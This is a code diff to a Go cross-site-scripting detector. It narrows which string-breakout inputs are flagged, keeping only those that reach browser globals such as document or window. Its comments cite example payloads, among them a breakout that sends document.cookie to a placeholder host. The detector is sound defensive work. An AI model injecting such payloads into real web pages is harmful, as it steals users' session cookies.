@@ -10,8 +10,10 @@ package xss
 //     bracket, and followed by the end, an operator or a bracket, never by
 //     more words ("Please alert(me) when..." is prose).
 //   - A string breakout: the first quote of the value closes the string
-//     the value was placed in, and an operator then a call or assignment
-//     follows (`';document.location='//x/'+document.cookie//`, `"-f(1)-"`).
+//     the value was placed in, and an operator then a sink, or a call or
+//     member assignment on a browser object, follows (`';alert(1)//`,
+//     `';document.location='//x/'+document.cookie//`, `"-top.f(1)-"`).
+//     Calls of other names are left out: they are how SQL injections look.
 
 type jsKind uint8
 
@@ -330,7 +332,8 @@ func skipBalanced(l *jsLexer, s []byte, open, close byte) bool {
 
 // breakout checks s as the content of a JavaScript string quoted with q:
 // the first q closes it; what follows must be closing brackets, an
-// operator, and a call or an assignment to a member, or a sink.
+// operator, and a sink, or a call or member assignment on a browser
+// object.
 func (c *checker) breakout(s []byte, q byte) bool {
 	i := 0
 	for i < len(s) && s[i] != q {
@@ -354,7 +357,8 @@ func (c *checker) breakout(s []byte, q byte) bool {
 		ops++
 		t = l.next()
 	}
-	if ops == 0 || t.kind != jsIdent {
+	var b [16]byte
+	if ops == 0 || t.kind != jsIdent || !isBrowserRoot(identName(s, t, &b)) {
 		return false
 	}
 	start := t.start
@@ -382,6 +386,17 @@ func (c *checker) breakout(s []byte, q byte) bool {
 		default:
 			return false
 		}
+	}
+	return false
+}
+
+// isBrowserRoot reports whether name is a browser global through which
+// script reaches the page, the user or the network.
+func isBrowserRoot(name []byte) bool {
+	switch string(name) {
+	case "document", "window", "location", "top", "self", "parent", "frames", "opener",
+		"globalThis", "navigator", "history", "localStorage", "sessionStorage":
+		return true
 	}
 	return false
 }
